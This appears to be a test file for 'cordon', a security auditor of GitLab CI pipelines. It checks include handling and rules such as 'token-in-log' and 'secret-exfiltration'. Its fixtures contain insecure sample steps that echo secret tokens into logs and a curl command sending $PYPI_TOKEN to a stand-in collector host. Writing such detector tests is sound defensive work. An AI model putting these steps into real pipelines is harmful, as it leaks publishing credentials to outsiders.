import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import { runCordon, writeRepository } from '../helpers/cli.ts';

const cordon = runCordon;
const repo = (files: Record<string, string>) => writeRepository(files, { codeowners: false });

const ROOT = `include:
  - local: /ci/release.yml
publish:
  extends: .release
  environment: pypi
  rules:
    - if: $CI_COMMIT_TAG
`;
const RELEASE = `.release:
  script:
    - echo "$PYPI_TOKEN" | base64
`;

test('a scanned directory yields its .gitlab-ci.yml; local includes are read and findings land in them', () => {
  const root = repo({ '.gitlab-ci.yml': ROOT, 'ci/release.yml': RELEASE, 'sub/.gitlab-ci.yml': 'x:\n  script: [echo "$A_TOKEN" | base64]\n' });
  const result = cordon(['audit', root, '--format', 'json']);
  assert.equal(result.code, 1, result.stderr);
  const report = JSON.parse(result.stdout);
  assert.deepEqual(report.errors, []);
  assert.equal(report.summary.filesAudited, 1, 'only the root .gitlab-ci.yml is a pipeline');
  const leak = report.findings.find((finding: { rule: string }) => finding.rule === 'token-in-log');
  assert.equal(leak.path, 'ci/release.yml');
  assert.equal(leak.line, 3);
  // The text report shows the included file's line.
  const text = cordon(['audit', root]);
  assert.match(text.stdout, /ci\/release\.yml:3:7/);
  assert.match(text.stdout, /echo "\$PYPI_TOKEN" \| base64/);
});

test('a missing include is an error with its line; the pipeline is still audited', () => {
  const root = repo({ '.gitlab-ci.yml': 'include: /ci/gone.yml\nleak:\n  script:\n    - echo "$DEPLOY_TOKEN" | base64\n' });
  const result = cordon(['audit', root, '--format', 'json']);
  const report = JSON.parse(result.stdout);
  assert.deepEqual(
    report.errors.map((error: { path: string; line: number }) => `${error.path}:${error.line}`),
    ['.gitlab-ci.yml:1'],
  );
  assert.ok(report.findings.some((finding: { rule: string }) => finding.rule === 'token-in-log'));
  assert.equal(result.code, 1);
});

test('a file named *.gitlab-ci.yml on the command line is a GitLab pipeline; its includes cannot leave the repository', () => {
  const root = repo({ 'release.gitlab-ci.yml': 'include: ../outside.yml\npublish:\n  script:\n    - curl -d "t=$PYPI_TOKEN" https://collector.example.net\n' });
  const result = cordon(['audit', path.join(root, 'release.gitlab-ci.yml'), '--format', 'json'], { cwd: root });
  const report = JSON.parse(result.stdout);
  assert.equal(report.findings[0]?.rule, 'secret-exfiltration');
  assert.equal(report.findings[0]?.path, 'release.gitlab-ci.yml');
  assert.match(report.errors[0]?.message ?? '', /leaves the repository/);
});

test('the GitLab example has findings and names the platform', () => {
  const result = cordon(['audit', 'examples/gitlab-release']);
  assert.equal(result.code, 1, result.stderr);
  assert.match(result.stdout, /\.gitlab-ci\.yml:\d+:\d+/);
  assert.match(result.stdout, /GitLab CI/);
  for (const rule of ['oidc-token-scope', 'publish-on-untrusted-trigger', 'token-in-log', 'secret-exfiltration', 'unpinned-action', 'remote-script-exec', 'debug-logging']) {
    assert.match(result.stdout, new RegExp(`\\[${rule}\\]`), rule);
  }
});
